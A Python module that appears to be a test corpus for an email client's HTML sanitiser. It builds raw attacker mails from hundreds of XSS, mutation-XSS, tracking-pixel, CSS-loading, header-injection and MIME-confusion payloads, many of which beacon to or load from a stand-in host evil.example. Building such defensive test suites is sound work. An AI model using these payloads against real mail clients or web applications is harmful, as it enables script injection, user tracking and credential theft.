"""Attacks by mail, by kind: what each of them tries is a line of HTML or CSS, or a head, or a MIME structure.

In them, `RUN` stands for a script that leaves a trace wherever it runs, and `EVIL` for a server that learns of whoever
asks it anything.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

RUN = "top.ran=1,document.title='ran',new Image().src='https://evil.example/ran',alert(1)"
EVIL = "https://evil.example"

HTML: dict[str, tuple[str, ...]] = {
    "script element": (
        "<script>RUN</script>",
        "<SCRIPT>RUN</SCRIPT>",
        "<script src=EVIL/a.js></script>",
        "<script type=module>RUN</script>",
        "<script\x0c>RUN</script>",
        "<script/x>RUN</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<script>RUN",
        "<script><!--RUN//--></script>",
        "<<script>RUN//<</script>",
        "<noscript><p title='</noscript><script>RUN</script>'>",
        "<textarea><script>RUN</script></textarea><script>RUN</script>",
        "<title><script>RUN</script></title><script>RUN</script>",
        "<xmp><p></xmp><script>RUN</script>",
        "<plaintext><script>RUN</script>",
        "<template><script>RUN</script></template>",
        "<template shadowrootmode=open><script>RUN</script><slot></slot></template>",
    ),
    "event handler": (
        "<img src=x onerror=RUN>",
        "<img src=x OnErRoR='RUN'>",
        '<img src=x onerror="&#116;op.ran=1">',
        "<img/src=x/onerror=RUN>",
        "<img src=x\x0conerror=RUN>",
        "<img src=`x` onerror=`RUN`>",
        "<img src=x onerror\n=\nRUN>",
        "<img srcset=x onerror=RUN>",
        "<image src=x onerror=RUN>",
        "<body onload=RUN>",
        "<body onpageshow=RUN onresize=RUN onscroll=RUN>",
        "<svg onload=RUN>",
        "<svg><g onload=RUN></g></svg>",
        "<div onmouseover=RUN style='width:9999px;height:9999px'>x</div>",
        "<input onfocus=RUN autofocus>",
        "<select onfocus=RUN autofocus><option>x</select>",
        "<textarea onfocus=RUN autofocus></textarea>",
        "<button onfocus=RUN autofocus>x</button>",
        "<a id=x tabindex=1 onfocus=RUN href=#>x</a>",
        "<details open ontoggle=RUN>x</details>",
        "<video src=x onerror=RUN></video>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<marquee onstart=RUN>x</marquee>",
        "<style onload=RUN></style>",
        "<link rel=stylesheet href=data:text/css, onload=RUN>",
        "<object data=x onerror=RUN></object>",
        "<p style='animation:x 1s' onanimationstart=RUN>x</p><style>@keyframes x{}</style>",
        "<p style='transition:color 1s' ontransitionend=RUN>x</p>",
        "<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>",
        "<x contenteditable onbeforeinput=RUN onfocus=RUN autofocus>x</x>",
        '"><img src=x onerror=RUN>',
        "--><img src=x onerror=RUN>",
        "]]><img src=x onerror=RUN>",
    ),
    "javascript address": (
        "<a href='javascript:RUN'>x</a>",
        "<a href='JaVaScRiPt:RUN'>x</a>",
        "<a href=' \x01javascript:RUN'>x</a>",
        "<a href='java\tscript:RUN'>x</a>",
        "<a href='java\nscript:RUN'>x</a>",
        "<a href='javascript&colon;RUN'>x</a>",
        "<a href='&#x6A;avascript:RUN'>x</a>",
        "<a href='&#0000106avascript:RUN'>x</a>",
        "<a href='javascript&#x0A;:RUN'>x</a>",
        "<a href='vbscript:RUN'>x</a>",
        "<a href='data:text/html,<script>RUN</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4='>x</a>",
        "<a href='blob:x'>x</a>",
        "<a href='view-source:EVIL'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='cid:javascript:RUN'>x</a>",
        "<img src='javascript:RUN'>",
        "<img src='data:text/html,<script>RUN</script>'>",
        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
        "<table background='javascript:RUN'><td background='javascript:RUN'>x</table>",
        "<map name=m><area shape=default href='javascript:RUN'></map><img usemap=#m src=x width=99 height=99>",
        "<blockquote cite='javascript:RUN'>x</blockquote>",
        "<body background='javascript:RUN'>",
        "<a href='x' ping='EVIL/ping'>x</a>",
        "<a href='EVIL' target='_top'>x</a>",
        "<a href='EVIL' target='_parent' rel='opener'>x</a>",
        "<a href='/leave'>x</a>",
        "<a href='//evil.example/x'>x</a>",
    ),
    "svg and mathml": (
        "<svg><script>RUN</script></svg>",
        "<svg><script href='data:text/javascript,RUN'/></svg>",
        "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
        "<svg><use xlink:href='EVIL/a.svg#x'/></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=20>x</text></a></svg>",
        "<svg><set attributeName=onload to=RUN /></svg>",
        "<svg><foreignObject><iframe src='javascript:RUN'></iframe></foreignObject></svg>",
        "<svg><image href='EVIL/p.png'/></svg>",
        "<svg><feImage href='EVIL/p.png'/></svg>",
        "<svg><style>@import 'EVIL/a.css'</style></svg>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
        "<math><a xlink:href='javascript:RUN'>x</a></math>",
        "<math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
        "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
        "<math href='javascript:RUN'>x</math>",
        "<svg><desc><svg onload=RUN></svg></desc></svg>",
    ),
    "mutation": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<svg><p><style><g title='</style><img src=x onerror=RUN>'>",
        "<table><a href='\"><img src=x onerror=RUN>'><td>x",
        "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
        "<p title='`<img src=x onerror=RUN>`'>x</p>",
        "<div><!--[if gte IE 4]><script>RUN</script><![endif]--></div>",
        "<!--><script>RUN</script>-->",
        "<!--->x<img src=x onerror=RUN>-->",
        "<!-- --!><img src=x onerror=RUN>-->",
        "<?xml version='1.0'?><?xml-stylesheet href='EVIL/x.xsl'?><p>x</p>",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        "<a title='&lt;/a&gt;&lt;img src=x onerror=RUN&gt;'>x</a>",
        "<img alt='`><img src=x onerror=RUN>'>",
        "<select><style></select><img src=x onerror=RUN></style></select>",
        "<style></style </style><img src=x onerror=RUN>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        "&lt;img src=x onerror=RUN&gt;",
        "\ufeff<script>RUN</script>",
        "<a\u2028href='javascript:RUN'>x</a>",
    ),
    "frame and plug-in": (
        "<iframe src='EVIL'></iframe>",
        "<iframe src='javascript:RUN'></iframe>",
        "<iframe src='/inbox'></iframe>",
        "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
        "<frameset><frame src='EVIL'></frameset>",
        "<object data='EVIL/x.swf'></object>",
        "<object data='data:text/html,<script>RUN</script>'></object>",
        "<embed src='EVIL/x.swf'>",
        "<embed src='javascript:RUN'>",
        "<applet code=x archive='EVIL/x.jar'></applet>",
        "<portal src='EVIL'></portal>",
        "<fencedframe src='EVIL'></fencedframe>",
    ),
    "form": (
        "<form action='EVIL'><input name=password><input type=submit></form>",
        "<form id=f action='javascript:RUN'></form><button form=f>x</button>",
        "<button formaction='javascript:RUN'>x</button>",
        "<input type=image src='EVIL/p.png'>",
        "<form action='/leave' method=post><button style='width:999px;height:999px'>x</button></form>",
        "<isindex action='javascript:RUN' type=image>",
        "<input type=submit formaction='/account/delete' formmethod=post>",
    ),
    "whole page": (
        "<meta http-equiv=refresh content='0;url=EVIL'>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "<meta http-equiv=set-cookie content='bitmail_session=x'>",
        "<base href='EVIL/'><img src='p.png'><a href='x'>x</a>",
        "<base href='javascript:/a/-RUN//'><a href='x'>x</a>",
        "<base target='_top'><a href='x'>x</a>",
        "<link rel=stylesheet href='EVIL/a.css'>",
        "<link rel=prefetch href='EVIL/x'><link rel=preload as=image href='EVIL/y'>",
        "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='EVIL'>",
        "<link rel=icon href='EVIL/i.png'><link rel=manifest href='EVIL/m.json'>",
        "<link rel=import href='EVIL/x.html'>",
        "</body></html><script>RUN</script>",
        "</style><script>RUN</script>",
        "<html manifest='EVIL/x'><body onload=RUN>",
    ),
    "tracking": (
        "<img src='EVIL/p.gif' width=1 height=1>",
        "<img src=//evil.example/p.gif>",
        "<img src='https:evil.example/p.gif'>",
        "<img src='https:\\\\evil.example\\p.gif'>",
        "<img src=' \thttps://evil.example/p.gif'>",
        "<img src='ht\ntps://evil.example/p.gif'>",
        "<img src='HTTPS://EVIL.EXAMPLE/p.gif'>",
        "<img srcset='EVIL/a.png 1x, EVIL/b.png 2x'>",
        "<img src=cid:none srcset=EVIL/a.png sizes=1px>",
        "<img lowsrc='EVIL/p.gif' dynsrc='EVIL/p.gif' longdesc='EVIL/d'>",
        "<image src='EVIL/p.gif'>",
        "<picture><source srcset='EVIL/p.webp'><img src='EVIL/p.png'></picture>",
        "<video poster='EVIL/p.png' src='EVIL/v.mp4' autoplay></video>",
        "<video><track src='EVIL/t.vtt' default></video>",
        "<audio src='EVIL/a.mp3' autoplay></audio>",
        "<body background='EVIL/p.gif'>",
        "<table background='EVIL/p.gif'><tr background='EVIL/p.gif'><td background='EVIL/p.gif'>x</table>",
        "<bgsound src='EVIL/a.wav'>",
        "<input type=image src='EVIL/p.gif'>",
        "<img src='cid:https://evil.example/p.gif'>",
        "<img src='http://evil.example:80/p.gif'>",
        "<img src='ftp://evil.example/p.gif'>",
    ),
    "style that loads": (
        "<p style='background:url(EVIL/p.gif)'>x</p>",
        "<p style='background:url(\"EVIL/p.gif\")'>x</p>",
        "<p style='background:\\75rl(EVIL/p.gif)'>x</p>",
        "<p style='background:\\000075\\000072\\00006C(EVIL/p.gif)'>x</p>",
        "<p style='background:u/**/rl(EVIL/p.gif)'>x</p>",
        "<p style='background:URL(EVIL/p.gif)'>x</p>",
        "<p style='background:image-set(\"EVIL/p.gif\" 1x)'>x</p>",
        "<p style='background:-webkit-image-set(url(EVIL/p.gif) 1x)'>x</p>",
        "<p style='background:cross-fade(url(EVIL/p.gif),red)'>x</p>",
        "<p style='background:var(--x);--x:url(EVIL/p.gif)'>x</p>",
        "<p style='list-style:url(EVIL/p.gif)'>x</p>",
        "<p style='list-style-image:url(EVIL/p.gif)'>x</p>",
        "<p style='content:url(EVIL/p.gif)'>x</p>",
        "<p style='cursor:url(EVIL/p.cur),auto'>x</p>",
        "<p style='border-image:url(EVIL/p.gif)'>x</p>",
        "<p style='border-image-source:url(EVIL/p.gif)'>x</p>",
        "<p style='mask:url(EVIL/p.svg)'>x</p>",
        "<p style='filter:url(EVIL/p.svg#f)'>x</p>",
        "<p style='clip-path:url(EVIL/p.svg#f)'>x</p>",
        "<p style='shape-outside:url(EVIL/p.png);float:left'>x</p>",
        "<p style='-moz-binding:url(EVIL/x.xml#x)'>x</p>",
        "<p style='behavior:url(EVIL/x.htc)'>x</p>",
        "<p style='width:expression(RUN)'>x</p>",
        "<p style='background-image:attr(x url)' x='EVIL/p.gif'>x</p>",
        "<p style='background:src(\"EVIL/p.gif\")'>x</p>",
        "<style>@import 'EVIL/a.css';</style>",
        "<style>@import url(EVIL/a.css);</style>",
        "<style>@\\69mport 'EVIL/a.css';</style>",
        "<style>@charset 'utf-8';@import 'EVIL/a.css';</style>",
        "<style>@font-face{font-family:x;src:url(EVIL/f.woff)}p{font-family:x}</style><p>x</p>",
        "<style>@namespace url(EVIL/n);</style>",
        "<style>@media screen{@import 'EVIL/a.css';p{background:url(EVIL/p.gif)}}</style><p>x</p>",
        "<style>@supports (color:red){p{background:url(EVIL/p.gif)}}</style><p>x</p>",
        "<style>@layer x{p{background:url(EVIL/p.gif)}}</style><p>x</p>",
        "<style>p{&{background:url(EVIL/p.gif)}}</style><p>x</p>",
        "<style>p::before{content:url(EVIL/p.gif)}</style><p>x</p>",
        "<style>a[href^='h']{background:url(EVIL/leak)}</style><a href='EVIL'>x</a>",
        "<style>p{background:url(EVIL/p.gif</style><p>x</p>",
        "<style>p{color:red;}/*</style><img src='EVIL/p.gif'>*/</style>",
        "<style><!-- @import 'EVIL/a.css'; --></style>",
        "<style>p{color:red;x:'</style><script>RUN</script>'}</style>",
        "<style>p{font-family:'\\3c/style\\3e\\3cscript\\3eRUN'}</style>",
    ),
    "style that covers": (
        "<div style='position:fixed;inset:0;background:red;z-index:9999'>x</div>",
        "<div style='position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red'>x</div>",
        "<style>body{font-size:300px}</style>x",
        "<style>html{margin:-9999px!important;width:99999px}</style>x",
        "<style>*{display:none!important}</style>x",
        "<div style='margin:-9999px;padding:9999px;background:red'>x</div>",
        "<div style='width:999999px;height:10px;background:red'>x</div>",
        "<div style='transform:scale(99)'>x</div>",
        "<div style='position:sticky;top:0'>x</div>",
        "<p style='text-indent:-9999px;outline:9999px solid red'>x</p>",
        "<p style='box-shadow:0 0 0 9999px red'>x</p>",
        "<div popover=manual style='display:block'>x</div>",
        "<dialog open>x</dialog>",
        "<p style='direction:rtl;unicode-bidi:bidi-override;writing-mode:vertical-rl'>x</p>",
        "<p id=app name=app class='row'>x</p><img name=cookie><form name=body><input name=parentNode></form>",
    ),
}
"""HTML parts, by kind."""

HEADS: tuple[tuple[str, str], ...] = (
    ("From", '"<script>RUN</script>" <eve@example.com>'),
    ("From", "\"<img src=x onerror='RUN'>\" <eve@example.com>"),
    ("From", '"{{7*7}}${top.ran=1}" <eve@example.com>'),
    ("To", "\"<svg onload='RUN'>\" <ada@localhost>"),
    ("Cc", "\"<iframe src='javascript:RUN'>\" <eve@example.com>"),
    ("Reply-To", '"><script>RUN</script> <eve@example.com>'),
    ("List-Unsubscribe", "<javascript:RUN>"),
    ("List-Unsubscribe", "<data:text/html,RUN>, <mailto:x@example.com?subject=<script>RUN</script>>"),
    ("List-Unsubscribe", '<EVIL/u?"onmouseover="RUN>'),
    ("Disposition-Notification-To", "eve@example.com"),
    ("Content-Base", "EVIL/"),
    ("X-Image-Url", "EVIL/p.gif"),
    ("Face", "PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4="),
)
"""Fields of the head of a plain mail."""

TEXTS: tuple[str, ...] = (
    "javascript:RUN",
    "<script>RUN</script>",
    'http://evil.example/"onmouseover="RUN',
    "http://evil.example/'><img src=x onerror=RUN>",
    "www.evil.example<script>RUN</script>",
    "a@b.example?body=<script>RUN</script>",
    "> <script>RUN</script>\n" * 6,
    "data:text/html,<script>RUN</script>",
    "[x](javascript:RUN) ![x](EVIL/p.png)",
    "\u202ehttp://evil.example/\u202c",
)
"""Plain texts."""

PARTS: tuple[tuple[str, str], ...] = (
    ("text/html; charset=utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-"),
    ("text/html; charset=utf-16", "<script>RUN</script>"),
    ("text/html; charset=iso-2022-jp", "<img alt='\x1b$B'><img src=x onerror='RUN'>\x1b(B"),
    ('text/html; charset="utf-8<script>RUN</script>"', "<p>x</p>"),
    ("TEXT/HTML", "<script>RUN</script>"),
    ("text/html;;;", "<img src=x onerror=RUN>"),
    ("application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></html>"),
    ("text/xml", "<?xml-stylesheet type='text/xsl' href='EVIL/x.xsl'?><x/>"),
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"),
    ("text/javascript", "RUN"),
    ("text/css", "@import 'EVIL/a.css'"),
    ("text/enriched", "<param>RUN</param>"),
    ("text/calendar", "BEGIN:VCALENDAR\nATTACH:EVIL/x\nEND:VCALENDAR"),
    ("message/rfc822", "Subject: x\nContent-Type: text/html\n\n<script>RUN</script>"),
    ('message/external-body; access-type=URL; URL="EVIL/x"', "x"),
    ("multipart/x-mixed-replace; boundary=b", "--b\nContent-Type: text/html\n\n<script>RUN</script>\n--b--"),
    (
        "multipart/related; boundary=b",
        "--b\nContent-Type: text/html\n\n<img src='cid:x'><iframe src='cid:x'>\n--b\n"
        "Content-Type: image/svg+xml\nContent-ID: <x>\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\n--b--",
    ),
    (
        "multipart/related; boundary=b",
        "--b\nContent-Type: text/html\n\n<img src='cid:x'>\n--b\n"
        "Content-Type: text/html\nContent-ID: <x>\nContent-Disposition: attachment; filename=x.html\n\n"
        "<script>RUN</script>\n--b--",
    ),
    (
        "multipart/related; boundary=b",
        "--b\nContent-Type: text/html\n\n<p>x</p>\n--b\nContent-Type: text/html\n"
        "Content-Location: EVIL/x\n\n<script>RUN</script>\n--b--",
    ),
    (
        "multipart/mixed; boundary=b",
        "--b\nContent-Type: text/plain\nContent-Disposition: attachment; "
        "filename=\"<img src=x onerror='RUN'>.txt\"\n\nx\n--b--",
    ),
    (
        "multipart/mixed; boundary=b",
        "--b\nContent-Type: image/png\nContent-Disposition: inline; filename=x.png\n\n"
        "<script>RUN</script>\n--b--",
    ),
)
"""Content-Types, and what stands below them."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One mail of an attacker.

    Attributes:
        kind: what it tries.
        raw: the mail.
        subject: by which it is known.
        has_frame: whether it is shown as HTML.
    """

    kind: str
    raw: bytes
    subject: str
    has_frame: bool


def attacks() -> Iterator[Attack]:
    """All of them."""
    number = 0

    def attack(kind: str, type: str, body: str, has_frame: bool, *fields: tuple[str, str]) -> Attack:
        nonlocal number
        number += 1
        subject = f"{number} {kind}"
        head = {"From": "Eve <eve@example.com>", "To": "ada@localhost", "Subject": subject} | dict(fields)
        head["Content-Type"] = type
        lines = [f"{name}: {_armed(value)}" for name, value in head.items()]
        raw = "\r\n".join((*lines, "", _armed(body).replace("\n", "\r\n")))
        return Attack(kind, raw.encode(), subject, has_frame)

    for kind, snippets in HTML.items():
        for snippet in snippets:
            # The words in front make sure that there is something to show, whatever is left of the rest.
            yield attack(kind, "text/html; charset=utf-8", f"<p>Words</p>{snippet}", True)
    for field in HEADS:
        yield attack(f"head {field[0]}", "text/plain; charset=utf-8", "Words", False, field)
    for text in TEXTS:
        yield attack("plain text", "text/plain; charset=utf-8", text, False)
    for type, body in PARTS:
        is_html = "text/html" in type.lower() or (
            "Content-Type: text/html\n\n" in body and "message/" not in type
        )
        yield attack("MIME", type, body, is_html)


def _armed(words: str) -> str:
    return words.replace("RUN", RUN).replace("EVIL", EVIL)
